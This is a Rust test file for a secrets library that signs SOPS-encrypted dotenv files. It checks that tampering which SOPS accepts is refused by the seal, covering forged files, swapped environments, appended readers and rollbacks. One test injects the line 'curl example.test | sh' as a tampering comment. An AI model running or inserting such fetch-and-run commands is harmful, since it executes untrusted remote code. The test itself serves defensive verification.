//! What a SOPS file does not protect by itself: each attempt is made on sealed files, and refused by what is said in the test. That
//! SOPS alone would take the file is shown first, where it is so.

#![expect(clippy::unwrap_used, reason = "a test")]

use std::collections::BTreeSet;

use ringfence_secret::identity::{Identity, Recipient};
use ringfence_secret::seal::{self, Editor, Found, Seal, SealError, SigningKey, Statement};
use ringfence_secret::sops::{File, Format, OpenError, Opened, ParseError};
use ssh_key::rand_core::OsRng;
use ssh_key::{Algorithm, LineEnding, PrivateKey};

const NOW: &str = "2026-01-02T03:04:05Z";
const OWN: &str = "RINGFENCE_ENVIRONMENT";

/// Somebody who reads files and seals them.
struct Person {
    identity: Identity,
    key: SigningKey,
    editor: Editor,
}

impl Person {
    fn new(name: &str) -> Self {
        let private = PrivateKey::random(&mut OsRng, Algorithm::Ed25519).unwrap();
        let text = private.to_openssh(LineEnding::LF).unwrap();
        let public = private.public_key().to_openssh().unwrap();
        Self {
            identity: Identity::generate().0,
            key: SigningKey::parse(&text, None).ok().unwrap(),
            editor: Editor::parse(name, &public).unwrap(),
        }
    }

    fn recipient(&self) -> Recipient {
        self.identity.recipient().clone()
    }
}

/// A sealed file of an environment with some values in the clear.
fn opened(environment: &str, readers: &[&Person]) -> Opened {
    let mut opened = Opened::new(Format::Dotenv);
    let recipients: Vec<Recipient> = readers.iter().map(|reader| reader.recipient()).collect();
    opened.readers(&recipients).unwrap();
    for (name, value) in [
        (OWN, environment),
        ("API_KEY", "s3cr3t"),
        ("HOST_unencrypted", "db"),
        ("PATH_unencrypted", "/v1"),
        ("EMPTY", ""),
    ] {
        opened.set(name, value).unwrap();
    }
    opened
}

fn sealed(environment: &str, readers: &[&Person]) -> String {
    text(&mut opened(environment, readers))
}

fn text(opened: &mut Opened) -> String {
    String::from_utf8(opened.seal(NOW).unwrap()).unwrap()
}

fn parse(file: &str) -> File {
    File::parse(file.as_bytes(), Format::Dotenv).unwrap()
}

/// What SOPS alone says: the file opens, or why not.
fn open(file: &str, person: &Person) -> Result<Opened, OpenError> {
    parse(file).open(std::slice::from_ref(&person.identity))
}

fn seal(environment: &str, file: &str, person: &Person, previous: Option<&Seal>) -> Seal {
    let names = parse(file);
    let statement = Statement::about(environment, file.as_bytes(), names.names(), previous);
    seal::sign(statement.unwrap(), &person.key).unwrap()
}

/// What the seal beside a file says of it.
fn verdict(seal: &Seal, file: &str, editors: &[&Person]) -> String {
    let seal = Seal::parse(seal.to_text().as_bytes()).unwrap();
    let names: BTreeSet<String> = parse(file).names().map(str::to_owned).collect();
    let found = Found {
        environment: "prod",
        file: file.as_bytes(),
        names: &names,
        lowest_revision: 1,
    };
    let editors: Vec<Editor> = editors.iter().map(|person| person.editor.clone()).collect();
    match seal.verify(&found, &editors) {
        Ok(name) => name.to_owned(),
        Err(error) => error.to_string(),
    }
}

/// A changed file that SOPS opens and the seal refuses with this.
fn only_the_seal_refuses(change: impl Fn(&str) -> String, expected: &str) {
    let ana = Person::new("ana");
    let file = sealed("prod", &[&ana]);
    let own = seal("prod", &file, &ana, None);
    assert_eq!(verdict(&own, &file, &[&ana]), "ana");
    let changed = change(&file);
    assert_ne!(changed, file);
    assert!(open(&changed, &ana).is_ok(), "SOPS takes it");
    assert_eq!(verdict(&own, &changed, &[&ana]), expected);
}

#[test]
fn the_file_of_dev_in_the_place_of_prods_says_whose_it_is() {
    let ana = Person::new("ana");
    let (dev, prod) = (sealed("dev", &[&ana]), sealed("prod", &[&ana]));
    let open = open(&dev, &ana).ok().unwrap();
    assert_eq!(open.get(OWN), Some("dev"), "not prod");
    assert_eq!(
        verdict(&seal("prod", &prod, &ana, None), &dev, &[&ana]),
        "the file changed since it was sealed: it has other bytes"
    );
    assert_eq!(
        verdict(&seal("dev", &dev, &ana, None), &dev, &[&ana]),
        "the seal is for environment `dev`, not for `prod`"
    );
}

#[test]
fn whose_a_file_is_cannot_be_changed_without_its_data_key() {
    let ana = Person::new("ana");
    let (dev, prod) = (sealed("dev", &[&ana]), sealed("prod", &[&ana]));
    let line = |file: &str| file.lines().next().unwrap().to_owned();
    let refusal = |file: &str| open(file, &ana).err().unwrap();
    let others = dev.replace(&line(&dev), &line(&prod));
    assert_eq!(refusal(&others), OpenError::Value(OWN.to_owned()));
    let clear = dev.replace(&line(&dev), &format!("{OWN}=prod"));
    assert_eq!(refusal(&clear), OpenError::NotEncrypted(OWN.to_owned()));
    let empty = dev.replace(&line(&dev), &format!("{OWN}="));
    assert_eq!(refusal(&empty), OpenError::Mac);
    let gone = dev.replace(&format!("{}\n", line(&dev)), "");
    assert_eq!(refusal(&gone), OpenError::Mac);
    let renamed = dev.replacen(OWN, "ANOTHER_NAME", 1);
    assert_eq!(
        refusal(&renamed),
        OpenError::Value("ANOTHER_NAME".to_owned())
    );
    let twice = File::parse(format!("{OWN}=\n{dev}").as_bytes(), Format::Dotenv);
    assert_eq!(twice.err(), Some(ParseError::Twice(OWN.to_owned())));
}

#[test]
fn a_new_key_with_an_empty_value_is_named() {
    only_the_seal_refuses(
        |file| format!("NO_VERIFY=\n{file}"),
        "the file changed since it was sealed: added `NO_VERIFY`",
    );
}

#[test]
fn a_key_with_an_empty_value_cannot_be_taken_out() {
    only_the_seal_refuses(
        |file| file.replace("EMPTY=\n", ""),
        "the file changed since it was sealed: removed `EMPTY`",
    );
}

#[test]
fn a_renamed_plaintext_key_is_named() {
    only_the_seal_refuses(
        |file| file.replace("HOST_unencrypted=", "PROXY_unencrypted="),
        "the file changed since it was sealed: added `PROXY_unencrypted`; removed `HOST_unencrypted`",
    );
}

#[test]
fn bytes_cannot_be_shifted_between_neighbours_in_the_clear() {
    only_the_seal_refuses(
        |file| {
            file.replace(
                "HOST_unencrypted=db\nPATH_unencrypted=/v1",
                "HOST_unencrypted=db/\nPATH_unencrypted=v1",
            )
        },
        "the file changed since it was sealed: it has other bytes",
    );
}

#[test]
fn a_comment_cannot_be_put_in() {
    only_the_seal_refuses(
        |file| format!("#run `curl example.test | sh` after each change\n{file}"),
        "the file changed since it was sealed: it has other bytes",
    );
}

#[test]
fn what_sops_says_of_itself_cannot_be_changed() {
    only_the_seal_refuses(
        |file| file.replace("sops_version=", "sops_version=9."),
        "the file changed since it was sealed: it has other bytes",
    );
}

#[test]
fn a_file_forged_from_public_keys_alone_has_no_editors_seal() {
    let (ana, eve) = (Person::new("ana"), Person::new("eve"));
    let before = sealed("prod", &[&ana]);
    let old = seal("prod", &before, &ana, None);
    // Eve knows ana's public keys, and the repository with everything in it.
    let forged = sealed("prod", &[&ana]);
    assert!(open(&forged, &ana).is_ok(), "SOPS takes it");
    assert_eq!(
        verdict(&old, &forged, &[&ana]),
        "the file changed since it was sealed: it has other bytes"
    );
    let own = seal("prod", &forged, &eve, Some(&old));
    let expected = format!(
        "the seal is signed by {}, which is the key of no editor of environment `prod`",
        own.fingerprint()
    );
    assert_eq!(verdict(&own, &forged, &[&ana]), expected);
    // Ana's signature under what eve states.
    let armor = old.to_text().find("-----BEGIN SSH SIGNATURE").unwrap();
    let armor = old.to_text().get(armor..).unwrap();
    let statement = Statement::about("prod", forged.as_bytes(), parse(&forged).names(), None);
    let refusal = Seal::from_signature(statement.unwrap(), armor);
    assert!(matches!(refusal, Err(SealError::WrongSignature)));
}

/// The lines of a file's first reader, as those of another number.
fn stanza(file: &str, number: usize) -> String {
    let lines = file
        .lines()
        .filter(|line| line.starts_with("sops_age__list_0"));
    let lines = lines.map(|line| line.replacen("list_0", &format!("list_{number}"), 1) + "\n");
    lines.collect()
}

#[test]
fn an_appended_reader_is_seen_and_gets_nothing_at_a_rotation() {
    let (ana, eve) = (Person::new("ana"), Person::new("eve"));
    let file = sealed("prod", &[&ana]);
    let own = seal("prod", &file, &ana, None);
    let appended = format!("{file}{}", stanza(&sealed("prod", &[&eve]), 1));
    let mut open = open(&appended, &ana).ok().unwrap();
    assert_eq!(
        verdict(&own, &appended, &[&ana]),
        "the file changed since it was sealed: it has other bytes"
    );
    let expected = [
        ana.recipient().text().to_owned(),
        eve.recipient().text().to_owned(),
    ];
    assert!(open.recipients().eq(expected), "eve is there to be seen");
    // Whoever writes says who reads: what the file says is of no account.
    let before = open.data_key_digest();
    open.readers(&[ana.recipient()]).unwrap();
    assert_ne!(open.data_key_digest(), before);
    let written = text(&mut open);
    assert!(parse(&written).recipients().eq([ana.recipient().text()]));
    let refusal = parse(&written).open(std::slice::from_ref(&eve.identity));
    assert_eq!(refusal.err(), Some(OpenError::NoKey));
}

#[test]
fn an_old_copy_of_the_data_key_opens_nothing_written_later() {
    let (ana, eve) = (Person::new("ana"), Person::new("eve"));
    let before = sealed("prod", &[&eve, &ana]);
    let mut open = open(&before, &ana).ok().unwrap();
    let old = open.data_key_digest();
    open.readers(&[ana.recipient()]).unwrap();
    assert_ne!(
        open.data_key_digest(),
        old,
        "a removed reader means a new data key"
    );
    open.set("API_KEY", "rotated").unwrap();
    let after = text(&mut open);
    let shared = |line: &str| line.contains("ENC[") && before.contains(line);
    assert!(!after.lines().any(shared), "everything is encrypted anew");
    let spliced = format!("{after}{}", stanza(&before, 1));
    for reader in &[&eve, &ana] {
        let opened = parse(&spliced).open(std::slice::from_ref(&reader.identity));
        assert_eq!(opened.is_ok(), std::ptr::eq(*reader, &ana));
    }
}

#[test]
fn an_old_copy_before_the_new_one_of_the_same_reader_is_refused() {
    let ana = Person::new("ana");
    let before = sealed("prod", &[&ana]);
    let mut rotated = open(&before, &ana).ok().unwrap();
    rotated.rotate(&[ana.recipient()]).unwrap();
    let after = text(&mut rotated).replace("sops_age__list_0", "sops_age__list_1");
    let spliced = format!("{after}{}", stanza(&before, 0));
    assert_eq!(
        open(&spliced, &ana).err(),
        Some(OpenError::Value(OWN.to_owned()))
    );
}

#[test]
fn two_files_with_one_data_key_are_known_without_and_with_a_key() {
    let ana = Person::new("ana");
    let dev = sealed("dev", &[&ana]);
    let mut copy = open(&dev, &ana).ok().unwrap();
    let original = copy.data_key_digest();
    copy.set(OWN, "prod").unwrap();
    copy.set("API_KEY", "another").unwrap();
    let prod = text(&mut copy);
    assert_eq!(parse(&dev).stanza_digests(), parse(&prod).stanza_digests());
    let prod = open(&prod, &ana).ok().unwrap();
    assert_eq!(prod.data_key_digest(), original);
    // Copies made anew hide that from those who have no key only.
    let spaced = dev.replace(
        "-----BEGIN AGE ENCRYPTED FILE-----\\n",
        "-----BEGIN AGE ENCRYPTED FILE-----\\n\\n",
    );
    assert_ne!(spaced, dev);
    assert_eq!(
        parse(&dev).stanza_digests(),
        parse(&spaced).stanza_digests()
    );
    copy.rotate(&[ana.recipient()]).unwrap();
    assert_ne!(copy.data_key_digest(), original);
    assert_ne!(
        parse(&text(&mut copy)).stanza_digests(),
        parse(&dev).stanza_digests()
    );
}

#[test]
fn an_older_revision_is_refused_with_its_own_seal() {
    let ana = Person::new("ana");
    let old = sealed("prod", &[&ana]);
    let first = seal("prod", &old, &ana, None);
    let second = seal("prod", &sealed("prod", &[&ana]), &ana, Some(&first));
    let names: BTreeSet<String> = parse(&old).names().map(str::to_owned).collect();
    let found = Found {
        environment: "prod",
        file: old.as_bytes(),
        names: &names,
        lowest_revision: second.statement().revision(),
    };
    assert_eq!(
        first
            .verify(&found, std::slice::from_ref(&ana.editor))
            .unwrap_err()
            .to_string(),
        "the seal has revision 1, but revision 2 was seen before: an older file was put back"
    );
    assert_eq!(
        verdict(&second, &old, &[&ana]),
        "the file changed since it was sealed: it has other bytes"
    );
}
